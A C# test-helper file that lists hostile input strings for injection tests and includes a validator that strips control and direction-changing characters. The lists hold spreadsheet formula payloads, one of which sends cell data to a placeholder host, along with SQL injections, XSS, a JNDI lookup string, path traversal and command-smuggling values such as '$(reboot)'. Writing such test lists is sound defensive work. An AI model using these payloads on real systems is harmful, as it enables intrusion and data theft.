using System.Text;

namespace KyCuong.Server.Tests.Injection;

/// <summary>Texts that mean something to somebody further on: spreadsheets, databases, pages, shells, terminals, logs, readers of the printed page (reliability tests S2 and S13).</summary>
internal static class HostileTexts
{
    /// <summary>What a spreadsheet may take for a formula, and what looks like one and is none.</summary>
    public static IReadOnlyList<string> Formulas { get; } =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|'/c calc'!A1", "=HYPERLINK(\"http://192.0.2.1/\"&A1,\"x\")", "=WEBSERVICE(\"http://192.0.2.1/\")", "-2+3+cmd|' /C calc'!A0",
        "  =1+1", "\u00A0=1+1", "\u3000=1+1", "\u200B=1+1", "\uFEFF=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "  ＝1+1",
        "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "\u001B=1+1", "\"=1+1\"", "\"\"=1+1", "'=1+1", "x\",\"=1+1", "x;=1+1", "x,=1+1", "x\n=1+1", "x\r\n=1+1", "x\t=1+1",
        "-5", "+84 210 3846 000", "=", "-", "_x003D_1+1", "_x0009_=1+1", "_x005F_x003D_", "1e9", "0012", "TRUE", "2026-05-13",
    ];

    /// <summary>Everything else.</summary>
    public static IReadOnlyList<string> Others { get; } =
    [
        "'; DROP TABLE staff; --", "Robert'); DELETE FROM taps WHERE 1=1; --", "\" OR \"\"=\"", "1 UNION SELECT 1", "\\'; SELECT pg_sleep(9); --", "%' AND 1=0", "?1", "@agency", ":agency", "$1",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;&amp;&#x3C;", "]]><!--", "<!DOCTYPE a>", "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://192.0.2.1/x}", "#{1+1}", "[red]x[/]", "[/]", "%s%n%x", "{0}{1}{99}",
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "C:\\x", "/dev/null", "%2e%2e%2f", "CON", "NUL.csv", "$(reboot)", "`reboot`", "| reboot", "; reboot", "-rf",
        "A\0B", "A\u0001B", "A\u0007B", "A\u001B[2J\u001B[31mB", "A\u007FB", "A\u0085B", "A\u009B2JB", "A\rB", "A\nB", "A\u2028B", "A\u2029B",
        "A\u202EB", "A\u202AB\u202C", "A\u2066B\u2069", "A\u200EB\u200F", "A\u200DB", "A\u00ADB",
        "𠮷野家", "👨‍👩‍👧", "\U0010FFFD", "\U0010FFFF", "\uFFFD", "\uFFFE", "\uFFFF", "\uFDD0", "\uE000",
        "Nguyễn Thị Ánh Tuyết".Normalize(NormalizationForm.FormC), "Nguyễn Thị Ánh Tuyết".Normalize(NormalizationForm.FormD), "ĐƯỜNG ﬁ ½", "İıſK", "x" + new string('\u0301', 60),
        new string('ố', 120), string.Concat(Enumerable.Repeat("𠮷", 60)), new string('ố', 121), " ", "\u3000",
    ];

    /// <summary>
    /// What may be stored of a text that was in a file, by the manual: without blanks around it, composed (NFC), 1 to so many characters, no control characters or
    /// line ends, nothing that turns the direction, characters of Unicode only. Null: it must be refused, or counts as nothing.
    /// </summary>
    /// <param name="text">As it stands in the file.</param>
    /// <param name="longest">UTF-16 units.</param>
    /// <param name="cell">A cell of a table: line ends and tabs around it are blanks, too. Else a value of JSON, where they are characters.</param>
    public static string? Kept(string text, int longest, bool cell = true)
    {
        var trimmed = text.Trim();
        if (trimmed.Length == 0) return null;
        foreach (var rune in (cell ? trimmed : text).EnumerateRunes())
        {
            var value = rune.Value;
            var isControl = value < 0x20 || value is >= 0x7F and < 0xA0 or 0x2028 or 0x2029 or (>= 0x202A and <= 0x202E) or (>= 0x2066 and <= 0x2069);
            if (isControl || (value & 0xFFFE) == 0xFFFE || value is >= 0xFDD0 and <= 0xFDEF) return null;
        }

        var composed = trimmed.Normalize(NormalizationForm.FormC);
        return composed.Length <= longest ? composed : null;
    }
}
